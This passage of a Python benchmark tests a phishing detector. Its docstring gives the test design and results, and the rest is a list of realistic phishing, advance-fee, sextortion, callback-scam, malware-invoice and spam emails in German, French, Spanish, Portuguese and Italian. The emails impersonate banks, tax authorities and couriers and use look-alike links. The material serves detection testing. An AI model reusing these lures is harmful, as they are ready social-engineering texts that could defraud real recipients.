"""Untuned probe of unwanted mail in twelve languages other than English and Japanese (issue 11, round 11,
branch probe11): does phishbot read lures that no rule was written against?

Written on 2026-12-03 between 19:52 and 20:10 UTC, and committed before its first run, by a helper that had
not read the wording rules (``bot/analysis/rules.py``, ``brands.py``, ``secret_ask.py``), their data
(``bot/analysis/data/*``), the locales, docs/RULES.md, corpus-dev or the texts of any other probe; only the
harness of ``bench/probe_ja_round10.py`` (how a mail and a pasted text are built, how ``analyse`` is called
and counted) and the entry point of ``bot/analysis/pipeline.py`` were looked at. Every text was written from
knowledge of 2020–2026 phishing, scam and spam as a honeypot receives it, and of ordinary mail; none is to be
edited after the first run: a miss stays a miss, a false alarm stays a false alarm.

Languages (12): de, fr, es, pt (Brazil), it, nl, pl, ru, tr, zh (simplified), ko, id.
156 lures, 13 per language, each with its expected kind:
  phishing  bank / mailbox / parcel / tax authority / government portal / toll / utility / marketplace, with a
            link to an invented look-alike or random host (a string only: nothing is fetched)
  scam      advance fee / inheritance, prize / lottery, investment / crypto / side job, fake invoice or
            alert with a phone number and no link (callback), sextortion with a bitcoin address (a valid
            bech32 checksum over a hash of a seed string: an address nobody holds), fake police summons
  malware   an "invoice" with a link to a .zip/.exe; an attached .zip/.html/.iso
  spam      pharmacy, loans, SEO / B2B cold offers, data lists, dating, gambling
108 ordinary mails, 9 per language: a bank notice, a newsletter (with an unsubscribe link and
List-Unsubscribe), an order confirmation, a colleague's mail, a tax office letter pointing to its own
portal without a link, personal mail mentioning money, a parcel notice, a utility or phone invoice, a
security notice (new login, code, password changed).

Each text is analysed twice: as a raw mail and pasted (subject and body, no header, no attachment). The mail
of a lure comes from an unrelated sender domain (reserved names: subdomains of example.com/.net/.org) with
one of three receiver verdicts (spf pass for that domain and no DKIM; softfail with a DKIM signature of a
third domain and dmarc fail; neutral with a failed signature), Received from 203.0.113.0/24, To the victim or
undisclosed-recipients (alternating); a sextortion mail is spoofed From the victim's own address with spf
fail. An ordinary mail comes from its own domain with spf, dkim and dmarc pass for it (newsletters also carry
List-Unsubscribe and an HTML alternative). "caught"/"flagged": any verdict but ``no_signs``; "named": caught
with the expected verdict.

First run, on main 4b4414d (2026-12-03 20:00 UTC; only this docstring was touched afterwards): lures caught
147/312, named with the expected kind 86/312; ordinary flagged 1/216 (de tax office mail, aligned, as phishing).
Mail variant 103/156 (53 named), pasted 44/156 (33). By kind, caught (named) of both variants: phishing 55/100
(34), scam 56/116 (34), malware 22/48 (13), spam 14/48 (5). By language: de 17/26 (14), fr 15 (11), es 20 (13),
pt 19 (14), it 16 (9), nl 15 (9), pl 8 (5), ru 8 (0), tr 8 (4), zh 5 (1), ko 7 (0), id 9 (6); pasted ru, zh and
ko 0/13 each. Of the 103 mails caught, 29 were caught on transport findings alone (dmarc/spf/dkim fail,
undisclosed recipients, no reverse DNS; all "suspicious"); with the spf-pass-no-DKIM receiver verdict only 16/48
mails were caught.

    python bench/probe_world_round11.py           # breakdowns by language, class and variant, and a total line
    python bench/probe_world_round11.py --list    # and each miss, wrong name or false alarm with its rules
"""

# ruff: noqa: E501  (the mail texts are data: one sentence a line, as written)
from __future__ import annotations

import io
import sys
import time
import zipfile
from collections import Counter
from email.header import Header
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from bot.analysis.pipeline import analyse

LANGS = ("de", "fr", "es", "pt", "it", "nl", "pl", "ru", "tr", "zh", "ko", "id")
KINDS = ("phishing", "scam", "malware", "spam")
VICTIM = {"de": "anna.schmidt@example.com", "fr": "claire.martin@example.com", "es": "lucia.garcia@example.com",
          "pt": "joao.souza@example.com", "it": "giulia.rossi@example.com", "nl": "sanne.devries@example.com",
          "pl": "katarzyna.nowak@example.com", "ru": "elena.ivanova@example.com", "tr": "ayse.demir@example.com",
          "zh": "zhang.wei@example.com", "ko": "minji.kim@example.com", "id": "dewi.lestari@example.com"}

# (language, expected kind, sub-class, sender's display name ("" = spoofed from the victim), sender's address,
#  subject, body, attachment file name or None)
LURES: list[tuple[str, str, str, str, str, str, str, str | None]] = [
    # ===================== German (de)
    ("de", "phishing", "bank", "Sparkasse", "service@kunden-info7.example.net", "Wichtig: Ihr S-pushTAN-Verfahren läuft am 05.12. ab",
     "Sehr geehrte Kundin, sehr geehrter Kunde,\n\naufgrund der neuen PSD2-Richtlinie muss Ihr S-pushTAN-Verfahren bis zum 05.12.2026 neu registriert werden. "
     "Andernfalls wird Ihr Online-Banking aus Sicherheitsgründen eingeschränkt.\n\nJetzt aktualisieren: https://sparkasse-pushtan-verifizierung.com/de/login\n\n"
     "Mit freundlichen Grüßen\nIhre Sparkasse", None),
    ("de", "phishing", "mail", "Postfach-Administrator", "admin@mx4.example.org", "Ihr Postfach hat das Speicherlimit erreicht (98%)",
     "Hallo,\n\nIhr E-Mail-Konto hat 98 % des Speicherplatzes belegt. Eingehende Nachrichten werden zurückgehalten.\n"
     "Bitte bestätigen Sie Ihr Konto innerhalb von 24 Stunden, um zusätzlichen Speicher zu erhalten:\n\n"
     "http://mail-speicher-upgrade.info/verify?u=anna.schmidt\n\nIT-Support-Team", None),
    ("de", "phishing", "parcel", "DHL Paket", "noreply@track-88.example.com", "Ihre Sendung wartet: Zollgebühr offen",
     "Ihr Paket (Sendungsnummer 00340434161094032918) konnte nicht zugestellt werden, da eine Zollgebühr von 1,99 € aussteht.\n"
     "Bitte begleichen Sie die Gebühr bis morgen, sonst wird die Sendung an den Absender zurückgeschickt.\n\n"
     "Gebühr bezahlen: https://dhl-paket-zustellung.top/de/zahlung\n\nDHL Paket GmbH", None),
    ("de", "phishing", "tax", "Bundeszentralamt für Steuern", "erstattung@bzst.example.net", "Steuerrückerstattung: 412,80 EUR",
     "Nach der letzten jährlichen Berechnung Ihrer steuerlichen Tätigkeit haben wir festgestellt, dass Sie Anspruch auf eine Steuerrückerstattung von 412,80 EUR haben.\n"
     "Bitte füllen Sie das Formular aus und geben Sie Ihre Bankverbindung an, damit wir die Rückerstattung bearbeiten können.\n\n"
     "Formular: https://bzst-rueckerstattung.online/antrag.php\n\nBundeszentralamt für Steuern", None),
    ("de", "scam", "advance", "RA Dr. Klaus Weber", "k.weber.kanzlei@example.com", "Vertraulich: Nachlass Ihres verstorbenen Verwandten",
     "Guten Tag,\n\nich bin Rechtsanwalt und vertrete den Nachlass meines verstorbenen Mandanten, der denselben Nachnamen wie Sie trägt. "
     "Er hinterließ 4.850.000,00 Euro bei einer Bank, ohne Erben zu benennen. Die Bank wird das Geld in Kürze an den Staat übertragen.\n"
     "Ich schlage vor, Sie als nächsten Angehörigen einzutragen; der Betrag wird 50/50 geteilt. Die Transaktion ist 100 % legal und risikofrei.\n"
     "Bitte antworten Sie mit Ihrem vollständigen Namen, Ihrer Telefonnummer und Ihrem Alter.\n\nHochachtungsvoll\nDr. Klaus Weber", None),
    ("de", "scam", "prize", "Euro-Lotto Gewinnbenachrichtigung", "gewinn@promo-21.example.org", "Herzlichen Glückwunsch! Sie haben 950.000 € gewonnen",
     "Ihre E-Mail-Adresse wurde bei unserer internationalen Ziehung als Gewinner ausgewählt. Gewinnnummer: EU-7734-221.\n"
     "Um Ihren Gewinn von 950.000,00 € zu beanspruchen, wenden Sie sich an unseren Treuhänder Herrn Martin Vogel (vogel.treuhand@example.net) "
     "und zahlen Sie die Bearbeitungsgebühr von 250 €.\nBitte behandeln Sie diese Mitteilung vertraulich.", None),
    ("de", "scam", "invest", "Finanz News", "news@invest-daily.example.com", "Günther Jauch enthüllt: So verdienen Deutsche 2.300 € am Tag",
     "Das Video wurde nach der Sendung sofort gelöscht! Mit der neuen Plattform Quantum AI verdienen ganz normale Bürger "
     "täglich bis zu 2.300 Euro – ganz ohne Vorkenntnisse. Mindesteinzahlung nur 250 €.\n\n"
     "Jetzt kostenlos registrieren: https://quantum-ai-deutschland.site/anmeldung\n\nNur noch 7 Plätze frei!", None),
    ("de", "scam", "callback", "Norton Abrechnung", "billing.dept4@example.org", "Ihre Bestellbestätigung #NRT-882017",
     "Vielen Dank für die Verlängerung Ihres Norton 360 Abonnements.\n\nBetrag: 389,99 €\nZahlungsart: Automatische Abbuchung\n"
     "Der Betrag wird innerhalb von 24 Stunden von Ihrem Konto abgebucht.\n\nFalls Sie diese Verlängerung nicht autorisiert haben, "
     "rufen Sie sofort unseren Kundendienst an: +49 800 000 0000 (Mo–So, 24 h).", None),
    ("de", "scam", "sextortion", "", "anna.schmidt@example.com", "Ich kenne dein Passwort",
     "Hallo,\n\nich habe vor einigen Monaten dein Gerät über einen Trojaner infiziert und Zugriff auf deine Kamera erhalten. "
     "Ich habe dich beim Besuch von Erwachsenenseiten aufgenommen. Wenn du nicht willst, dass ich dieses Video an alle deine Kontakte sende, "
     "überweise 1.450 USD in Bitcoin an diese Adresse:\n\nbc1qcg4decrk595naupmyjkcs78a7an0m05czq6848\n\n"
     "Du hast 48 Stunden. Ich sehe, wenn du diese E-Mail gelesen hast. Antworten ist sinnlos.", None),
    ("de", "malware", "link", "Buchhaltung", "rechnung@bau-partner.example.net", "Rechnung 2026-11837 – offener Betrag",
     "Sehr geehrte Damen und Herren,\n\nanbei erhalten Sie unsere Rechnung Nr. 2026-11837 über 2.184,60 €. "
     "Bitte überweisen Sie den Betrag innerhalb von 7 Tagen.\n\nRechnung herunterladen: https://cloud-docs-share.xyz/dl/Rechnung_2026-11837.zip\n\n"
     "Mit freundlichen Grüßen\nM. Krüger\nBuchhaltung", None),
    ("de", "malware", "attach", "Inkasso Zentrale", "mahnung@example.com", "Letzte Mahnung vor gerichtlichem Mahnverfahren",
     "Sehr geehrte/r Kunde/in,\n\ntrotz mehrfacher Aufforderung haben Sie die offene Forderung nicht beglichen. "
     "Die vollständige Aufstellung finden Sie im Anhang. Sollte bis zum 10.12. kein Zahlungseingang erfolgen, leiten wir das gerichtliche Mahnverfahren ein.\n\n"
     "Inkasso Zentrale", "Mahnung_Forderung_88231.zip"),
    ("de", "spam", "pharmacy", "Apotheke Direkt", "angebot@med-shop.example.org", "Potenzmittel ohne Rezept – diskreter Versand",
     "Viagra, Cialis, Levitra – bis zu 80 % günstiger!\nOhne Rezept, ohne Arztbesuch, diskrete Verpackung.\n"
     "Jetzt bestellen: http://potenz-apotheke24.shop\n\nGratis-Pillen bei jeder Bestellung!", None),
    ("de", "spam", "seo", "Sebastian", "sebastian.m@seo-agentur.example.com", "Ihre Website auf Seite 1 bei Google?",
     "Hallo,\n\nich habe mir Ihre Website angesehen und festgestellt, dass sie bei Google für wichtige Suchbegriffe nicht auf Seite 1 erscheint. "
     "Wir können Ihnen helfen, mehr Besucher und Kunden zu gewinnen – garantiert.\n"
     "Darf ich Ihnen einen kostenlosen SEO-Bericht zusenden? Antworten Sie einfach mit \"Ja\".\n\nBeste Grüße\nSebastian", None),
    # ===================== French (fr)
    ("fr", "phishing", "bank", "Crédit Agricole", "securite@cliente-alerte.example.org", "Alerte : activité inhabituelle sur votre compte",
     "Chère cliente, cher client,\n\nNous avons détecté une tentative de connexion inhabituelle sur votre espace client. "
     "Par mesure de sécurité, votre accès a été temporairement suspendu.\n\nPour réactiver votre compte, veuillez confirmer votre identité sous 48h :\n"
     "https://ca-espace-client-securite.fr.com/authentification\n\nLe service sécurité", None),
    ("fr", "phishing", "health", "Ameli - Assurance Maladie", "no-reply@remboursement.example.com", "Votre carte Vitale expire – renouvellement obligatoire",
     "Bonjour,\n\nVotre carte Vitale arrive à expiration. Afin de continuer à bénéficier de vos remboursements, "
     "merci de compléter votre demande de renouvellement en ligne. Des frais d'envoi de 1,49 € seront demandés.\n\n"
     "Faire ma demande : https://ameli-renouvellement-carte.info/vitale\n\nL'Assurance Maladie", None),
    ("fr", "phishing", "parcel", "Colissimo", "suivi@notif-colis.example.net", "Votre colis est en attente de livraison",
     "Votre colis n°6A23918472211 n'a pas pu être livré car l'adresse est incomplète.\n"
     "Merci de confirmer vos coordonnées et de régler les frais de réexpédition (0,99 €) : https://suivi-colis-laposte.top/fr\n\n"
     "Sans action de votre part sous 72h, le colis sera retourné à l'expéditeur.", None),
    ("fr", "phishing", "tax", "impots.gouv.fr", "dgfip@avis-fiscal.example.org", "Remboursement d'impôt : 287,40 €",
     "Direction générale des Finances publiques\n\nAprès le calcul de votre impôt sur le revenu, vous êtes éligible à un remboursement de 287,40 €. "
     "Pour recevoir ce montant, veuillez remplir le formulaire en ligne et indiquer vos coordonnées bancaires.\n\n"
     "Accéder au formulaire : http://impots-gouv-remboursement.com/particulier/\n\nRéférence : 2026-FR-88412", None),
    ("fr", "phishing", "mail", "Orange Messagerie", "support@boite-pleine.example.com", "Votre messagerie sera désactivée",
     "Cher utilisateur,\n\nVotre boîte de réception Orange est pleine et sera désactivée le 04/12/2026. "
     "Cliquez ci-dessous pour conserver vos e-mails et augmenter votre espace gratuitement.\n\n"
     "https://messagerie-orange-verification.site/login\n\nCordialement, l'équipe Orange", None),
    ("fr", "scam", "advance", "Mme Marie Dubois", "mariedubois1957@example.net", "Don de bienfaisance",
     "Bonjour cher(e) ami(e),\n\nJe suis Mme Marie Dubois, veuve, atteinte d'un cancer en phase terminale. "
     "Je dispose d'une somme de 2 500 000 € déposée dans une banque et je souhaite en faire don à une personne honnête "
     "qui l'utilisera pour aider les orphelins. Mes médecins me donnent peu de temps.\n"
     "Veuillez me répondre rapidement avec vos coordonnées complètes afin que mon notaire prenne contact avec vous.\n\nQue Dieu vous bénisse.", None),
    ("fr", "scam", "police", "Gendarmerie Nationale", "brigade.numerique@example.org", "CONVOCATION JUDICIAIRE",
     "Madame, Monsieur,\n\nÀ la demande de Monsieur le Procureur de la République, nous vous adressons cette convocation suite à une saisie informatique "
     "de la cyber-infiltration, pour des faits de pédopornographie et exhibitionnisme.\n"
     "Vous êtes prié(e) de vous faire entendre par écrit dans un délai de 72 heures en nous envoyant vos justifications. "
     "Passé ce délai, nous transmettrons notre rapport au procureur et votre dossier sera publié dans les médias.\n\n"
     "Commissaire divisionnaire, Brigade de protection des mineurs", None),
    ("fr", "scam", "prize", "Carrefour Jeux", "jeu@cadeau-fidelite.example.com", "Félicitations ! Vous êtes sélectionné(e)",
     "Vous avez été choisi(e) pour participer à notre enquête de satisfaction annuelle. "
     "Répondez à 5 questions et recevez un Dyson V15 pour seulement 1,95 € de frais de livraison !\n\n"
     "Participer : https://recompense-client-fr.click/dyson\n\nOffre limitée à 50 participants aujourd'hui.", None),
    ("fr", "scam", "sextortion", "", "claire.martin@example.com", "Paiement en attente",
     "Bonjour,\n\nJe suis un hacker professionnel et j'ai accès à votre appareil depuis plusieurs mois. "
     "J'ai enregistré une vidéo de vous pendant que vous regardiez des sites pour adultes. "
     "Si vous voulez que je supprime ces données, envoyez 1200 € en Bitcoin à l'adresse suivante :\n"
     "bc1qvwlx4juku6ul5v2dmju76nsdpzfn9fdm2phall\n\nVous avez 2 jours ouvrables. Ne contactez pas la police.", None),
    ("fr", "malware", "link", "Service Comptabilité", "compta@cabinet-leroy.example.net", "Facture impayée FA-2026-4471",
     "Bonjour,\n\nSauf erreur de notre part, la facture FA-2026-4471 d'un montant de 1 348,00 € TTC reste impayée à ce jour.\n"
     "Vous trouverez le document ici : https://docs-partage-fichier.xyz/FA-2026-4471.zip\n\nCordialement,\nSophie Leroy", None),
    ("fr", "malware", "attach", "Notaire", "etude.notariale@example.com", "Documents à signer - acte de vente",
     "Maître,\n\nVeuillez trouver en pièce jointe les documents relatifs à l'acte de vente, à consulter et signer avant vendredi.\n"
     "Le mot de passe de l'archive est : 2026\n\nBien cordialement", "Acte_de_vente_signature.iso"),
    ("fr", "spam", "loan", "Crédit Facile", "offre@pret-rapide.example.org", "Prêt entre particuliers sans frais de dossier",
     "Vous avez besoin d'argent ? Je propose des prêts de 5 000 € à 500 000 € à toute personne sérieuse, "
     "au taux de 2 %, remboursables sur 1 à 25 ans. Même fichés Banque de France acceptés.\n"
     "Contactez-moi par e-mail : credit.particulier@example.net ou WhatsApp +33 6 00 00 00 00", None),
    ("fr", "spam", "dating", "Julie", "julie.rencontre@example.com", "Salut, tu te souviens de moi ?",
     "Coucou,\n\nJe suis Julie, 28 ans, j'habite près de chez toi. J'ai vu ton profil et je voudrais qu'on se rencontre ce week-end ;) "
     "J'ai mis mes photos privées ici : https://rencontres-discretes.love/julie28\n\nBisous", None),
    # ===================== Spanish (es)
    ("es", "phishing", "bank", "BBVA", "avisos@banca-notificacion.example.net", "Su cuenta ha sido bloqueada temporalmente",
     "Estimado cliente:\n\nHemos bloqueado temporalmente su cuenta debido a un intento de acceso no autorizado. "
     "Para desbloquearla, debe verificar sus datos en las próximas 24 horas.\n\nVerificar ahora: https://bbva-verificacion-clientes.es.net/acceso\n\n"
     "Si no realiza la verificación, su tarjeta quedará cancelada.\n\nAtentamente,\nDepartamento de Seguridad", None),
    ("es", "phishing", "parcel", "Correos", "info@envios-pendientes.example.com", "Correos: su envío está retenido en aduanas",
     "Su paquete con número de seguimiento PQ4B7C0911823 se encuentra retenido en aduanas. "
     "Para proceder a la entrega es necesario abonar las tasas de 2,99 €.\n\nPagar tasas: https://correos-seguimiento-aduana.top/pago\n\n"
     "El plazo para el pago es de 48 horas.", None),
    ("es", "phishing", "tax", "Agencia Tributaria", "notificaciones@aeat-aviso.example.org", "Notificación: devolución pendiente de IRPF",
     "Agencia Tributaria\n\nLe informamos que tiene una devolución pendiente de 318,25 € correspondiente a su declaración de la renta. "
     "Para recibirla, acceda a su expediente y confirme su número de tarjeta.\n\n"
     "Acceder: https://sede-agenciatributaria-devolucion.com/irpf\n\nReferencia: ES-2026-77120", None),
    ("es", "phishing", "fine", "DGT", "multas@trafico-aviso.example.net", "Notificación de multa de tráfico pendiente",
     "Dirección General de Tráfico\n\nSe ha registrado una infracción con su vehículo. El importe de la sanción es de 100 € "
     "(50 € con reducción por pronto pago hasta el 06/12).\n\nConsultar y pagar: https://dgt-multas-pago.info/consulta\n\nNo responda a este correo.", None),
    ("es", "scam", "advance", "Barrister James Cole", "jcole.chambers@example.com", "Propuesta de negocio confidencial",
     "Saludos,\n\nSoy el abogado personal de un difunto cliente que murió en un accidente de tráfico junto con su familia. "
     "Dejó un depósito de 7,5 millones de dólares (US$7.500.000) y no tiene herederos. Le propongo presentarle como beneficiario; "
     "compartiremos el fondo 60/40.\nPor favor, responda a este correo privado: jcole.private@example.net\n\nSaludos cordiales", None),
    ("es", "scam", "prize", "Loteria Internacional", "premios@sorteo-mundial.example.org", "GANADOR: premio de 850.000,00 EUR",
     "Nos complace informarle de que su dirección de correo electrónico ha resultado ganadora en nuestro sorteo internacional. "
     "Número de billete: 442-77-19.\nPara reclamar su premio, envíe sus datos (nombre, dirección, teléfono, copia del DNI) a nuestro agente "
     "Sr. Ramírez. Debe abonar 300 € por gastos de transferencia.\n\nFelicidades!", None),
    ("es", "scam", "invest", "Inversiones Cripto", "contacto@trader-pro.example.com", "Gana 1.500 € al día con Bitcoin desde casa",
     "Miles de españoles ya están ganando dinero con nuestro robot de trading automático. "
     "Solo necesitas una inversión inicial de 250 € y nuestro sistema hará el resto. Rentabilidad garantizada del 300 %.\n\n"
     "Un asesor te llamará hoy mismo. Regístrate: https://bitcoin-sistema-es.pro/registro", None),
    ("es", "scam", "callback", "PayPal Facturación", "factura.paypal@example.net", "Recibo de su pago a Geek Squad - 429,99 EUR",
     "Hola,\n\nHa enviado un pago de 429,99 EUR a Geek Squad Services. Este cargo aparecerá en su extracto en 24 horas.\n\n"
     "¿No reconoce esta transacción? Llame a nuestro servicio de atención al cliente al +34 900 000 000 para cancelarla y obtener el reembolso.\n\n"
     "ID de transacción: 8HT77120KL0091", None),
    ("es", "scam", "sextortion", "", "lucia.garcia@example.com", "Tienes una deuda pendiente conmigo",
     "Hola,\n\nTengo acceso a tu ordenador desde hace meses gracias a un software espía. He grabado un vídeo tuyo viendo contenido para adultos "
     "y tengo la lista de todos tus contactos. Para que borre todo, transfiere 950 dólares en Bitcoin a:\n\n"
     "bc1qykklqa9tzz5k2wrnclc4xq3f6tsq4tqcvlfls8\n\nTienes 48 horas. Si no pagas, enviaré el vídeo a tu familia y compañeros.", None),
    ("es", "malware", "link", "Administración", "facturacion@suministros-levante.example.org", "Factura electrónica pendiente de pago",
     "Buenos días,\n\nLe remitimos la factura electrónica correspondiente al mes de noviembre. Puede descargarla en el siguiente enlace:\n"
     "https://descarga-documentos.cfd/factura_noviembre_2026.exe\n\nUn saludo,\nDpto. de Administración", None),
    ("es", "malware", "attach", "Recursos Humanos", "rrhh@example.com", "Actualización de nómina - diciembre",
     "Hola,\n\nSe adjunta la nómina actualizada con la paga extra de diciembre. Por favor, revise el documento y confirme sus datos.\n\n"
     "Recursos Humanos", "Nomina_diciembre_2026.html"),
    ("es", "spam", "pharmacy", "Farmacia Online", "ventas@farmacia-barata.example.net", "Pierde 10 kilos en 2 semanas",
     "¡Las pastillas que los médicos no quieren que conozcas! Quema grasa sin dieta ni ejercicio.\n"
     "Pedido hoy con un 70 % de descuento y envío gratis: http://adelgazar-rapido.shop/oferta\n\nPlazas limitadas.", None),
    ("es", "spam", "b2b", "Laura - Marketing B2B", "laura@leads-b2b.example.org", "Base de datos de 50.000 empresas españolas",
     "Hola,\n\nOfrecemos bases de datos actualizadas de empresas españolas con correo electrónico, teléfono y persona de contacto. "
     "Ideal para campañas de email marketing. Precio especial esta semana: 199 €.\n\n"
     "Si no desea recibir más correos, responda BAJA.", None),
    # ===================== Portuguese, Brazil (pt)
    ("pt", "phishing", "bank", "Itaú Unibanco", "atendimento@seguranca-cliente.example.com", "Seu cartão foi bloqueado preventivamente",
     "Prezado(a) cliente,\n\nIdentificamos uma compra suspeita no valor de R$ 2.349,90 em seu cartão. Por segurança, ele foi bloqueado.\n"
     "Para desbloquear e contestar a compra, atualize seu cadastro agora:\n\nhttps://itau-desbloqueio-cartao.com.br.app/cliente\n\n"
     "Caso não atualize em até 24 horas, o cartão será cancelado.", None),
    ("pt", "phishing", "parcel", "Correios", "rastreamento@objeto-taxado.example.net", "Seu objeto foi taxado - pagamento pendente",
     "Olá,\n\nSua encomenda NL991827364BR foi taxada pela Receita Federal e aguarda o pagamento do imposto de importação de R$ 39,90.\n"
     "Pague via Pix em até 3 dias úteis para liberar a entrega: https://correios-rastreio-taxa.online/pagar\n\n"
     "Após o prazo, o objeto será devolvido ao remetente.", None),
    ("pt", "phishing", "tax", "Receita Federal", "cpf@regularizacao.example.org", "Seu CPF está irregular - regularize hoje",
     "RECEITA FEDERAL DO BRASIL\n\nConstam pendências na sua declaração do Imposto de Renda e seu CPF será suspenso. "
     "Com o CPF irregular você não poderá abrir contas, fazer empréstimos ou receber restituição.\n\n"
     "Regularize: https://receita-cpf-regularizar.site/consulta\n\nProtocolo 2026/0099182", None),
    ("pt", "phishing", "mail", "Microsoft Outlook", "noreply@conta-outlook.example.com", "Sua senha expira hoje",
     "A senha da sua conta de e-mail expira hoje. Para manter a mesma senha, clique no botão abaixo.\n\n"
     "MANTER SENHA ATUAL: https://outlook-manter-senha.web.app.xyz/login\n\nEquipe de contas Microsoft", None),
    ("pt", "scam", "advance", "Sra. Fátima Santos", "fatima.santos.advogada@example.net", "Herança não reclamada",
     "Bom dia,\n\nSou advogada de um falecido cliente estrangeiro que deixou uma herança de US$ 6.200.000 sem herdeiros. "
     "Como o senhor tem o mesmo sobrenome, posso apresentá-lo como beneficiário legal. Dividiremos o valor meio a meio.\n"
     "Responda com seu nome completo, telefone e cópia de documento para iniciarmos o processo.\n\nAtenciosamente", None),
    ("pt", "scam", "prize", "Promoção Premiada", "sorteio@premios-brasil.example.com", "PARABÉNS! Você ganhou um iPhone 16",
     "Você foi o cliente sorteado desta semana! Para receber seu iPhone 16 Pro, pague somente o frete de R$ 12,90.\n"
     "Resgate seu prêmio: https://resgate-premio-br.shop/iphone\n\nPromoção válida só hoje.", None),
    ("pt", "scam", "job", "RH Recrutamento", "vagas@trabalho-casa.example.org", "Trabalho remoto: ganhe R$ 300 por dia curtindo vídeos",
     "Olá! Estamos contratando pessoas para trabalhar de casa avaliando produtos e curtindo vídeos. "
     "Ganhos de R$ 150 a R$ 300 por dia, pagamento via Pix na hora.\n"
     "Chame nosso recrutador no WhatsApp +55 11 00000-0000 e informe o código VAGA77.", None),
    ("pt", "scam", "callback", "Central Antifraude", "alerta@central-cartoes.example.net", "Compra não reconhecida: R$ 4.789,00",
     "Informamos que foi aprovada uma compra de R$ 4.789,00 em MAGAZINE ELETRO LTDA com seu cartão final 4421.\n\n"
     "Se não foi você, ligue imediatamente para a Central Antifraude 0800 000 0000 e informe o protocolo 88172. "
     "Não responda este e-mail.", None),
    ("pt", "scam", "sextortion", "", "joao.souza@example.com", "Último aviso para você",
     "Eu invadi seu dispositivo e gravei você pela webcam enquanto assistia a vídeos adultos. Tenho todos os seus contatos do WhatsApp e e-mail.\n"
     "Para eu apagar o vídeo, envie o equivalente a R$ 5.000 em Bitcoin para o endereço:\nbc1q3zvgp29npxehhqxmrkkgawjuqukj3hh9sdrf0k\n\n"
     "Você tem 50 horas. Não tente me denunciar.", None),
    ("pt", "malware", "link", "Financeiro", "financeiro@distribuidora-alfa.example.com", "Boleto vencido - 2ª via",
     "Prezado cliente,\n\nSegue a 2ª via do boleto referente à NF 00.477.291, vencido em 28/11. Evite protesto em cartório.\n\n"
     "Baixar boleto: https://nfe-boleto-download.cloud/2via/boleto_477291.zip\n\nDepartamento Financeiro", None),
    ("pt", "malware", "attach", "Nota Fiscal Eletrônica", "nfe@example.org", "NF-e emitida - Nota Fiscal 0091827",
     "Você recebeu uma Nota Fiscal Eletrônica.\nEmitente: COMERCIAL SANTOS LTDA\nValor: R$ 1.870,00\n\nA DANFE segue em anexo.", "DANFE_0091827.zip"),
    ("pt", "spam", "loan", "Crédito Consignado", "credito@emprestimo-facil.example.net", "Empréstimo aprovado para negativados",
     "Dinheiro na conta em 24 horas! Empréstimo para aposentados, pensionistas do INSS e negativados, sem consulta ao SPC/Serasa.\n"
     "Taxas a partir de 1,49 % ao mês. Simule pelo WhatsApp +55 21 00000-0000.", None),
    ("pt", "spam", "pharmacy", "Saúde Natural", "ofertas@emagrece-ja.example.com", "Emagreça 12 kg em 30 dias sem dieta",
     "Cápsula natural aprovada por milhares de brasileiras. Queima gordura enquanto você dorme!\n"
     "Compre 3 e leve 5 com frete grátis: http://capsula-emagrecer.shop/promo\n\nPara não receber mais, responda SAIR.", None),
    # ===================== Italian (it)
    ("it", "phishing", "bank", "Intesa Sanpaolo", "sicurezza@avviso-clienti.example.org", "Avviso importante: aggiornamento dati obbligatorio",
     "Gentile Cliente,\n\nla informiamo che a causa di un aggiornamento del sistema di sicurezza è necessario verificare i suoi dati. "
     "In mancanza di verifica entro 24 ore il suo conto verrà sospeso.\n\n"
     "Procedi alla verifica: https://intesa-verifica-conto.it-sicurezza.com/login\n\nCordiali saluti,\nServizio Clienti", None),
    ("it", "phishing", "parcel", "Poste Italiane", "spedizioni@notifica-pacco.example.com", "Il tuo pacco è in giacenza",
     "Gentile cliente, il tuo pacco n. RR774120093IT è in giacenza presso il nostro centro di smistamento a causa di un indirizzo errato.\n"
     "Per programmare una nuova consegna è richiesto il pagamento di 1,99 €.\n\nhttps://poste-giacenza-pacchi.info/riconsegna", None),
    ("it", "phishing", "tax", "Agenzia delle Entrate", "rimborsi@entrate-comunicazione.example.net", "Comunicazione: rimborso fiscale disponibile",
     "Agenzia delle Entrate\n\nDai controlli effettuati risulta a Suo favore un rimborso IRPEF di € 406,00. "
     "Per ricevere l'accredito è necessario compilare il modulo online entro 5 giorni.\n\n"
     "Compila il modulo: http://agenziaentrate-rimborso.com/modulo\n\nCodice pratica: IT-2026-39281", None),
    ("it", "phishing", "mail", "Aruba Webmail", "servizio@rinnovo-dominio.example.org", "Il tuo dominio scade oggi",
     "Gentile cliente,\n\nil servizio associato al tuo dominio e alla casella di posta scade oggi. "
     "Per evitare la sospensione e la perdita di tutte le email, rinnova ora con carta di credito (€ 4,98).\n\n"
     "Rinnova: https://aruba-rinnovo-servizi.net.co/pagamento\n\nAruba S.p.A.", None),
    ("it", "scam", "advance", "Dott. Paolo Ricci", "paolo.ricci.banca@example.com", "Proposta riservata",
     "Gentile amico,\n\nSono il direttore del dipartimento crediti di una banca. Un cliente straniero è deceduto lasciando un conto dormiente di "
     "12,3 milioni di euro. Ho bisogno di un partner fidato per trasferire i fondi; riceverà il 40 %.\n"
     "L'operazione è sicura e legale. Mi risponda al mio indirizzo privato: p.ricci.private@example.net", None),
    ("it", "scam", "prize", "Esselunga Premi", "premi@concorso-fedelta.example.net", "Hai vinto un buono da 500 €!",
     "Congratulazioni! Sei stato selezionato per ricevere un buono spesa da 500 €. "
     "Completa il breve sondaggio e paga solo le spese di spedizione di 2 €.\n\n"
     "Ritira il buono: https://buono-esselunga-premio.top/sondaggio", None),
    ("it", "scam", "invest", "Mario", "mario.investimenti@example.org", "Ho guadagnato 40.000 € in 3 mesi",
     "Ciao,\n\nti scrivo perché anche io all'inizio ero scettico. Con il mio consulente di trading ho trasformato 500 € in 40.000 € in tre mesi, "
     "investendo in criptovalute e azioni Eni. Se vuoi ti metto in contatto, basta scrivere su WhatsApp al +39 300 000 0000.\n\nCiao, Mario", None),
    ("it", "scam", "callback", "Amazon Ordini", "ordine.conferma@example.com", "Conferma ordine: iPhone 16 Pro Max 1.489,00 €",
     "Grazie per il tuo ordine.\n\nArticolo: Apple iPhone 16 Pro Max 512GB\nTotale: 1.489,00 €\nConsegna prevista: 05/12/2026\n\n"
     "Se non hai effettuato questo ordine, contatta subito il servizio clienti al numero +39 02 0000 0000 per annullarlo.", None),
    ("it", "scam", "sextortion", "", "giulia.rossi@example.com", "Sei stato registrato",
